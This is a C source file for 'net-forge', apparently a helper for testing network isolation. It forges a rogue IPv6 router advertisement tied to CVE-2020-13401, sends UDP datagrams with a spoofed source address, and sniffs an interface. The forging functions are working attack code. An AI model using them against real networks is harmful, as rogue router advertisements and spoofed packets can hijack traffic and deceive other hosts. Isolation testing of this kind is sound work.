/*
 * The packets that a network's neighbour is not expected to send, and a look at what arrives. Static, so that it runs in any
 * rootfs. Needs CAP_NET_RAW.
 *
 *   net-forge ra INTERFACE                      a router advertisement that makes its sender the default router and gives out
 *                                               2001:db8:bad::/64, as a frame: also where IPv6 is off (CVE-2020-13401)
 *   net-forge udp FROM TO PORT                  a datagram "forged" with this source address (IPv4)
 *   net-forge sniff INTERFACE MILLISECONDS      what comes and goes there, a line a packet: "udp 10.0.0.2 10.0.0.9 53"; the
 *                                               protocol is a number where it has no ports. Prints "ready" first.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static _Noreturn void die(const char *what)
{
    fprintf(stderr, "net-forge: %s: %s\n", what, strerror(errno));
    exit(1);
}

/* RFC 1071, of a part; parts are of even length. */
static uint32_t sum_words(const void *data, size_t len, uint32_t sum)
{
    const uint8_t *p = data;

    for (size_t i = 0; i < len; i += 2)
        sum += (uint32_t)p[i] << 8 | p[i + 1];
    return sum;
}

static uint16_t fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

/* ---- router advertisement */

struct advertisement {
    struct ip6_hdr ip;
    struct nd_router_advert ra;
    struct nd_opt_prefix_info prefix;
};

static struct advertisement make_advertisement(void)
{
    enum { LIFETIME_S = 1800, RA_HOP_LIMIT = 255 };
    struct advertisement a = {
        .ip.ip6_flow = htonl(6U << 28),
        .ip.ip6_plen = htons(sizeof(a.ra) + sizeof(a.prefix)),
        .ip.ip6_nxt = IPPROTO_ICMPV6,
        .ip.ip6_hops = RA_HOP_LIMIT,
        .ra.nd_ra_type = ND_ROUTER_ADVERT,
        .ra.nd_ra_router_lifetime = htons(LIFETIME_S),
        .prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION,
        .prefix.nd_opt_pi_len = sizeof(a.prefix) / 8,
        .prefix.nd_opt_pi_prefix_len = 64,
        .prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO,
        .prefix.nd_opt_pi_valid_time = htonl(LIFETIME_S),
        .prefix.nd_opt_pi_preferred_time = htonl(LIFETIME_S),
    };

    inet_pton(AF_INET6, "fe80::bad", &a.ip.ip6_src);
    inet_pton(AF_INET6, "ff02::1", &a.ip.ip6_dst);
    inet_pton(AF_INET6, "2001:db8:bad::", &a.prefix.nd_opt_pi_prefix);
    /* The pseudo header: both addresses, the length and the protocol. */
    a.ra.nd_ra_cksum = fold(sum_words(&a.ip.ip6_src, 32, ntohs(a.ip.ip6_plen) + IPPROTO_ICMPV6) +
                            sum_words(&a.ra, sizeof(a.ra) + sizeof(a.prefix), 0));
    return a;
}

static int forge_ra(const char *interface)
{
    struct sockaddr_ll to = {.sll_family = AF_PACKET,
                             .sll_protocol = htons(ETH_P_IPV6),
                             .sll_ifindex = (int)if_nametoindex(interface),
                             .sll_halen = ETH_ALEN,
                             .sll_addr = {0x33, 0x33, 0, 0, 0, 1}}; /* all nodes */
    struct advertisement a = make_advertisement();
    int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IPV6));

    if (fd < 0 || sendto(fd, &a, sizeof(a), 0, (void *)&to, sizeof(to)) < 0)
        die(interface);
    return 0;
}

/* ---- a datagram with a source of one's choice */

static int forge_udp(const char *from, const char *to, uint16_t port)
{
    static const char payload[] = "forged";
    struct {
        struct iphdr ip;
        struct udphdr udp;
        char payload[6];
    } __attribute__((packed)) p = {
        .ip.version = 4,
        .ip.ihl = 5,
        .ip.ttl = 64,
        .ip.protocol = IPPROTO_UDP,
        .ip.tot_len = htons(sizeof(p)),
        .udp.source = htons(port),
        .udp.dest = htons(port),
        .udp.len = htons(sizeof(p) - sizeof(p.ip)),
    };
    struct sockaddr_in sin = {.sin_family = AF_INET};
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

    memcpy(p.payload, payload, sizeof(p.payload));
    if (inet_pton(AF_INET, from, &p.ip.saddr) != 1 || inet_pton(AF_INET, to, &sin.sin_addr) != 1) {
        errno = EINVAL;
        die("address");
    }
    p.ip.daddr = sin.sin_addr.s_addr;
    p.ip.check = fold(sum_words(&p.ip, sizeof(p.ip), 0));
    if (fd < 0 || sendto(fd, &p, sizeof(p), 0, (void *)&sin, sizeof(sin)) < 0)
        die(to);
    return 0;
}

/* ---- sniff */

static void print_packet(uint8_t protocol, int family, const void *src, const void *dst, const uint8_t *transport)
{
    char from[INET6_ADDRSTRLEN], to[INET6_ADDRSTRLEN];
    const char *name = protocol == IPPROTO_TCP ? "tcp" : protocol == IPPROTO_UDP ? "udp" : NULL;

    inet_ntop(family, src, from, sizeof(from));
    inet_ntop(family, dst, to, sizeof(to));
    if (name)
        printf("%s %s %s %d\n", name, from, to, transport[2] << 8 | transport[3]);
    else
        printf("%d %s %s\n", protocol, from, to);
    fflush(stdout);
}

static void look_at(const uint8_t *data, ssize_t len)
{
    enum { PORTS = 4 };
    struct iphdr v4 = {0};
    struct ip6_hdr v6;

    if (len >= (ssize_t)sizeof(v4))
        memcpy(&v4, data, sizeof(v4));
    if (v4.version == 4 && len >= v4.ihl * 4 + PORTS)
        print_packet(v4.protocol, AF_INET, &v4.saddr, &v4.daddr, data + (size_t)v4.ihl * 4);
    if (v4.version != 6 || len < (ssize_t)(sizeof(v6) + PORTS))
        return;
    memcpy(&v6, data, sizeof(v6));
    print_packet(v6.ip6_nxt, AF_INET6, &v6.ip6_src, &v6.ip6_dst, data + sizeof(v6));
}

static long now_ms(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static int sniff(const char *interface, long milliseconds)
{
    struct sockaddr_ll where = {
        .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)if_nametoindex(interface)};
    struct pollfd polled = {.fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL)), .events = POLLIN};
    long deadline = now_ms() + milliseconds, left;
    uint8_t data[2048];

    if (polled.fd < 0 || where.sll_ifindex == 0 || bind(polled.fd, (void *)&where, sizeof(where)) < 0)
        die(interface);
    puts("ready");
    fflush(stdout);
    while ((left = deadline - now_ms()) > 0)
        if (poll(&polled, 1, (int)left) > 0)
            look_at(data, recv(polled.fd, data, sizeof(data), 0));
    return 0;
}

int main(int argc, char **argv)
{
    const char *verb = argc > 1 ? argv[1] : "";

    if (argc == 3 && strcmp(verb, "ra") == 0)
        return forge_ra(argv[2]);
    if (argc == 5 && strcmp(verb, "udp") == 0)
        return forge_udp(argv[2], argv[3], (uint16_t)strtoul(argv[4], NULL, 10));
    if (argc == 4 && strcmp(verb, "sniff") == 0)
        return sniff(argv[2], strtol(argv[3], NULL, 10));
    fprintf(stderr, "usage: net-forge ra INTERFACE | udp FROM TO PORT | sniff INTERFACE MILLISECONDS\n");
    return 2;
}
